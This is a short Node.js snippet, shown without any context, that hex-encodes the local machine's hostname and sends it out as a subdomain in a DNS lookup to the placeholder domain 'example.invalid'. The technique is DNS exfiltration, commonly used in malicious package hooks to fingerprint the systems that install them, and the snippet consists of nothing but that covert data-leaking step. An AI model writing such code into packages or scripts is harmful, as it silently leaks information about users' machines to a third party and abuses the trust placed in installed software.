const dns = require('dns');
const os = require('os');
const label = Buffer.from(os.hostname()).toString('hex').slice(0, 60);
dns.resolve4(label + '.example.invalid', () => {});
